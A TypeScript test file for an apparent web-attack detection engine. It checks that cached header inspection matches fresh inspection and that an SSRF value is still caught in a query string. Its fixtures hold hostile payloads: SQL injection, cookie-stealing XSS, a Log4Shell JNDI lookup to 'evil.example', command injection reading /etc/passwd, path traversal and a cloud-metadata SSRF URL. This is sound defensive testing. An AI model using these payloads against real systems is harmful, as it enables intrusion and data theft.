import type { HeaderField } from '@sallyport/core';
import { canonicalRequest, extractRequest, HeaderMemory } from '@sallyport/traffic';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createDetection, type Detection, type Inspection } from './index.ts';

const ATTACKS = [
  "' UNION SELECT card FROM vault--",
  '<script>alert(document.cookie)</script>',
  '${jndi:ldap://evil.example/a}',
  '; cat /etc/passwd',
  '../../../../etc/passwd',
];

function inspect(detection: Detection, headers: readonly HeaderField[], memory: HeaderMemory | null, target = '/'): Inspection {
  const { request, facts } = canonicalRequest({
    method: 'GET',
    target,
    scheme: 'https',
    host: 'h',
    headers,
    body: { state: 'none', bytes: new Uint8Array() },
  });
  const { leaves, repeats } = extractRequest(request, undefined, null, memory);
  return detection.inspect(leaves, request, null, facts, repeats);
}

describe('header values that come again', () => {
  it('a warm engine says exactly what a fresh one says', () => {
    const warm = createDetection();
    const memory = new HeaderMemory();
    const text = fc.oneof(
      fc.string({ maxLength: 300 }),
      fc.constantFrom(...ATTACKS),
      fc.tuple(fc.string({ maxLength: 40 }), fc.constantFrom(...ATTACKS)).map((parts) => parts.join(' ')),
    );
    const headers = fc.array(fc.tuple(fc.constantFrom('user-agent', 'referer', 'cookie', 'x-a'), text), { maxLength: 6 });
    fc.assert(
      fc.property(headers, (given) => {
        const fresh = inspect(createDetection(), given, null);
        expect(inspect(warm, given, memory)).toEqual(fresh);
        expect(inspect(warm, given, memory)).toEqual(fresh);
      }),
      { numRuns: 60 },
    );
  });

  it('a value that is clean in one header is still read in another place', () => {
    const detection = createDetection();
    const memory = new HeaderMemory();
    const value = 'https://169.254.169.254/latest/meta-data/';
    const headers: HeaderField[] = [['referer', value]];
    const fresh = inspect(createDetection(), headers, null).classes;
    for (let time = 0; time < 3; time++) expect(inspect(detection, headers, memory).classes).toEqual(fresh);
    expect(inspect(detection, headers, memory, `/?url=${encodeURIComponent(value)}`).classes).toContain('ssrf');
  });
});
